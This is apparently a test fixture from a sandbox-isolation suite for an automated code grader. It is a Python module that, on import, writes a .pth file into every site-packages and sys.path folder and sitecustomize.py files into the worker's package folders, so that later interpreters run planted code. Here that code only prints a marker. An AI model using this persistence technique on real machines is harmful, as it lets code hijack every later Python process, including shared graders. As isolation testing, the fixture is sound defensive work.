"""Attack: plant code that every later Python process on the machine would run.

At import it writes EVILZOO_writes_pth.pth (a .pth line starting with
`import` runs at every interpreter start) into every site-packages folder
(site.getsitepackages(), the user site, every sys.path folder) and a
sitecustomize.py into the worker package's folder, which is on every worker's
PYTHONPATH. Had one landed in a shared folder, the grader and every later
student's worker would print EVILZOO-pth-ran at start-up, and could do
anything else.

Expected: the interpreter, the virtualenv and the worker package are
read-only views in the sandbox; only its private home and /tmp take the files,
and they vanish with it. Nothing appears on the host. The import-time report
(its output) lists what was refused; every check ends as the honest control's.
"""
import os
import site
import sys

from honest import isolation_forest_detector, one_class_svm_detector, zscore_detector  # noqa: F401

PLANT = "import sys; sys.stderr.write('EVILZOO-pth-ran\\n')\n"


def _plant():
    if os.getpid() != 1:  # never outside a sandbox: it would plant code in this machine's Python
        raise RuntimeError("EVILZOO writes_pth: not in a sandbox (pid != 1); refusing to attack this machine")
    folders = {*site.getsitepackages(), site.getusersitepackages(), *(p for p in sys.path if os.path.isdir(p or "."))}
    targets = [os.path.join(f or ".", "EVILZOO_writes_pth.pth") for f in sorted(folders)]
    targets += ["/labmark/lib/sitecustomize.py", "/labmark/lib/labmark_worker/sitecustomize.py"]
    written, refused = [], []
    for path in targets:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(PLANT)
            written.append(path)
        except OSError as exc:
            refused.append(f"{path} ({exc.strerror})")
    print(f"EVILZOO writes_pth: written {written}; refused {refused}", flush=True)


_plant()
